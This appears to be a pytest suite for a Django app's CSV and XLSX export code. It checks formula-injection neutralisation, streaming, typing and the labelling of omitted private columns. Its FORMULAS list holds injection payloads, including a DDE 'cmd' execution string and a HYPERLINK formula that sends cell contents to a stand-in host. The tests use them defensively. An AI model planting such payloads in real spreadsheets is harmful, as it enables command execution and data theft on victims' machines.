"""Files that leave: no formula runs, nothing is missing, what was left out is said."""

import csv
import io
import zipfile
from collections.abc import Iterable
from datetime import UTC, date, datetime, time
from decimal import Decimal
from operator import itemgetter
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import defusedxml.ElementTree
import pytest
from django.test import RequestFactory
from django.utils import translation
from hypothesis import given
from hypothesis import strategies as st
from python_calamine import CalamineWorkbook

from steerboard.interfaces.ui import export
from steerboard.interfaces.ui.cells import Column
from steerboard.interfaces.ui.components import Empty
from steerboard.interfaces.ui.export import Export, ExportColumn, neutralised
from steerboard.interfaces.ui.markup import Tag
from steerboard.interfaces.ui.tables import Filter, Listing

AT = datetime(2026, 11, 25, 2, 5, tzinfo=UTC)
FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+84905123456",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    " =1+1",
    "\u00a0=1+1",
    "＝1+1",
    "＋1",
    "－1+1",
    "＠x",
    "\r=1+1",
    "\n=1+1",
    '=HYPERLINK("http://example.invalid/?x="&A1,"bấm")',
    "-",
    "-2,5+cmd",
]
HARMLESS = [
    "",
    "a",
    "Bản đồ",
    "'=1+1",
    '"=1+1',
    ";=1+1",
    "%0A=1+1",
    "-5,5",
    "-1.234.567",
    "-12,5%",
    "1=1",
    "a\n=1",
    "  text",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_text_that_begins_like_a_formula_gets_an_apostrophe(text: str) -> None:
    assert neutralised(text) == f"'{text}"


@pytest.mark.parametrize("text", HARMLESS)
def test_other_text_stays_byte_for_byte(text: str) -> None:
    assert neutralised(text) == text


@given(st.text(max_size=30))
def test_no_cell_begins_like_a_formula(text: str) -> None:
    shown = neutralised(text)
    assert shown in {text, f"'{text}"}
    bare = shown.lstrip()
    assert not bare or (bare[0] not in "=+@＝＋－＠" and (bare[0] != "-" or bare[1:2].isdigit()))


def make(rows: Iterable[Any], **changes: Any) -> Export:
    said: dict[str, Any] = {
        "title": "Nhiệm vụ của Ban",
        "columns": [
            ExportColumn("Tên", lambda r: r.name),
            ExportColumn("=Hạn", lambda r: r.due),
            ExportColumn("Tiền", lambda r: r.sum),
        ],
        "rows": rows,
    }
    return Export(**{**said, **changes})


def row(name: str, due: Any = None, sum: Any = None) -> SimpleNamespace:
    return SimpleNamespace(name=name, due=due, sum=sum)


def csv_rows(response: Any) -> list[list[str]]:
    text = b"".join(response.streaming_content).decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:], newline="")))


def test_csv_says_what_it_is_and_ends_with_the_head_of_the_trail() -> None:
    said = make(
        [row("=1+1", date(2026, 11, 30), Decimal("-5.50")), row('a "b"\nc;d')],
        left_out=[("Thư điện tử", "dữ liệu cá nhân")],
        address="https://board.example/b/dak-lak/tasks/",
        footer="audit 118 7f3ac0",
    )
    with translation.override("vi"):
        response = export.csv_response(said, AT)
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="nhiem-vu-cua-ban-2026-11-25.csv"'
    assert response["Cache-Control"] == "private, no-store"
    assert csv_rows(response) == [
        ["Nhiệm vụ của Ban"],
        ["Lập lúc 9:05, 25/11/2026"],
        ["https://board.example/b/dak-lak/tasks/"],
        ["Các cột: Tên, =Hạn, Tiền"],
        ["Không có trong tệp: Thư điện tử (dữ liệu cá nhân)"],
        ["Tên", "'=Hạn", "Tiền"],
        ["'=1+1", "2026-11-30", "-5.50"],
        ['a "b"\nc;d', "", ""],
        ["audit 118 7f3ac0"],
    ]


def test_csv_is_streamed_and_complete() -> None:
    taken = []

    def endless() -> Any:
        for i in range(2000):
            taken.append(i)
            yield row(f"r{i}")

    pieces = export.csv_lines(make(endless()), AT)
    assert "Tên" in next(pieces)
    assert taken == []
    next(pieces)
    assert len(taken) == 400
    assert sum(piece.count("\r\n") for piece in pieces) == 1600


def test_csv_cells_are_written_alike_whatever_stands_beside_them() -> None:
    """A column is looked at as a whole; each of its cells reads as it would alone."""
    columns: list[list[Any]] = [
        ["a", "b\n=1", "", "Đ"],
        ["a", "", " =1", "b"],
        ["a", None, "-", "-5,5"],
        [1, 2.5, None, date(2026, 11, 30)],
        [1, True, Decimal("1E+3"), AT],
        [AT, "x", time(3, 4), 7],
    ]
    said = make(list(zip(*columns, strict=True)), columns=[ExportColumn("x", itemgetter(n)) for n in range(6)])
    with translation.override("en"):
        written = csv_rows(export.csv_response(said, AT))[-4:]
    assert written == [[export.csv_cell(cell) for cell in line] for line in zip(*columns, strict=True)]


def test_the_language_does_not_leak_between_the_pieces() -> None:
    with translation.override("vi"):
        pieces = export.csv_lines(make([row("x")] * 500), AT)
    with translation.override("en"):
        assert "Lập lúc" in next(pieces)
        next(pieces)
        assert translation.get_language() == "en"


def workbook(said: Export) -> tuple[CalamineWorkbook, bytes]:
    file = io.BytesIO()
    with translation.override("vi"):
        export.write_xlsx(said, AT, file)
    return CalamineWorkbook.from_filelike(io.BytesIO(file.getvalue())), file.getvalue()


def test_xlsx_keeps_types_and_runs_nothing() -> None:
    texts = [*FORMULAS, *HARMLESS[1:], "http://example.invalid/", "ftp://x", "0123"]
    book, raw = workbook(make([row(text, date(2026, 11, 30), Decimal("1284.5")) for text in texts], footer="audit 118"))
    assert book.sheet_names == ["Dữ liệu", "Về tệp này"]
    read = book.get_sheet_by_index(0).to_python()
    assert read[0] == ["Tên", "=Hạn", "Tiền"]
    # A carriage return is kept by the writer; the reader tells a line feed.
    assert [line[0].replace("\r", "\n") for line in read[1:]] == [text.replace("\r", "\n") for text in texts]
    assert read[1][1:] == [date(2026, 11, 30), 1284.5]
    about = [line[0] for line in book.get_sheet_by_index(1).to_python()]
    assert about[0] == "Nhiệm vụ của Ban"
    assert about[-1] == "audit 118"
    with zipfile.ZipFile(io.BytesIO(raw)) as parts:
        sheet = parts.read("xl/worksheets/sheet1.xml").decode()
        assert not [name for name in parts.namelist() if "externalLink" in name or name.endswith("sheet1.xml.rels")]
    assert "<f>" not in sheet
    assert "hyperlink" not in sheet


def test_xlsx_says_what_it_cannot_hold() -> None:
    long, exact = "x" * 40_000, Decimal("12345678901234567.89")
    book, _raw = workbook(make([row(long, date(1802, 1, 1), exact), row("y", None, True)]))
    first, second = book.get_sheet_by_index(0).to_python()[1:]
    assert first == ["x" * 32_766 + "…", "1802-01-01", "12345678901234567.89"]
    assert second == ["y", "", "True"]


def test_xlsx_keeps_what_xml_cannot_hold_and_days_that_were() -> None:
    texts = ["a&b<c>\"'", "\x01x", " lead", "tail\n", "_x0041_", "Đ", "x" * 700]
    days = [
        date(1900, 3, 1),
        date(2000, 2, 29),
        date(2026, 11, 30),
        datetime.fromisoformat("2026-11-25T09:05:07"),
        AT,
        time(3, 4),
        date(1850, 1, 1),
    ]
    sums = [True, 1, 1.5, Decimal("1E+5"), 10**16, float("nan"), 0]
    book, raw = workbook(make(map(row, texts, days, sums), columns=make([]).columns * 10))
    read = [line[-3:] for line in book.get_sheet_by_index(0).to_python()[1:]]
    assert [line[0] for line in read] == ["a&b<c>\"'", "\x01x", " lead", "tail\n", "_x0041_", "Đ", "x" * 700]
    assert [line[1] for line in read][:3] == days[:3]
    assert [line[1] for line in read][3:] == [
        days[3],
        datetime.fromisoformat("2026-11-25T09:05"),
        "03:04:00",
        "1850-01-01",
    ]
    assert [line[2] for line in read] == ["True", 1, 1.5, 100_000, 10**16, "nan", 0]
    with zipfile.ZipFile(io.BytesIO(raw)) as parts:
        assert 'r="AD2"' in parts.read("xl/worksheets/sheet1.xml").decode()
        for name in parts.namelist():
            defusedxml.ElementTree.fromstring(parts.read(name))


def test_xlsx_refuses_more_rows_than_a_sheet_holds(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(export, "XLSX_ROWS", 3)
    with pytest.raises(ValueError, match="3 rows"):
        workbook(make([row("x")] * 4))


@pytest.mark.django_db
def test_xlsx_response_leaves_no_file_behind(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("tempfile.tempdir", str(tmp_path))
    with translation.override("en"):
        response: Any = export.xlsx_response(make([row("x")]), AT)
    assert response["Content-Disposition"] == 'attachment; filename="nhiem-vu-cua-ban-2026-11-25.xlsx"'
    assert b"".join(response.streaming_content)[:2] == b"PK"
    response.close()
    assert list(tmp_path.iterdir()) == []


def _listing() -> Listing:
    return Listing(
        key="t",
        caption="Tasks",
        columns=[
            Column("name", "Name", lambda r: r.name, sort_by=lambda r: r.name),
            Column("state", "State", lambda r: Tag(r.state, "bad"), kind="tag"),
            Column("light", "Light", lambda r: "red", kind="light"),
            Column("mail", "Mail", lambda r: "x@example.invalid", export="private"),
        ],
        empty=Empty("None"),
        sort="name",
        filters=[Filter("state", "State", [("late", "late")], lambda r, v: [one for one in r if one.state == v])],
    )


def test_a_list_exports_what_the_page_shows_filtered_and_sorted() -> None:
    rows = [SimpleNamespace(name=name, state=state) for name, state in [("b", "late"), ("a", "late"), ("c", "open")]]
    with translation.override("en"):
        response = _listing().export(rows, RequestFactory().get("/?export=csv&state=late&per=50&page=9"))
        assert csv_rows(response)[2:] == [
            ["Columns: Name, State, Light"],
            ["Not in this file: Mail (private)"],
            ["Name", "State", "Light"],
            ["a", "late", "Behind"],
            ["b", "late", "Behind"],
        ]
    assert _listing().export(rows, RequestFactory().get("/?export=pdf")) is None
    assert _listing().export(rows, RequestFactory().get("/")) is None
